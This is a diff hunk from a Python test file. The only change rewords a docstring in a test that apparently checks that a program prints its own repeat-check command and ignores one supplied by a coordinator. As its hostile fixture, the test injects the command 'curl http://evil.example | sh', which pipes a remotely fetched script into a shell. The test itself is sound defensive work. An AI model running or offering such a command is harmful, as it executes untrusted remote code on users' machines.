@@ -203,7 +203,7 @@ def test_why_prints_the_evidence_of_leases_that_the_coordinator_knows_and_does_n
 
 
 def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coordinator_says(tmp_path: Path) -> None:
-    """Whoever reads it is to type it."""
+    """Readers are to type the command."""
     refusals, error = Refusals(tmp_path / "refusals"), TokensInvalid("Too many.")
     evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
     refusals.keep(LEASES[0], envelope(LEASES[0]), evil)
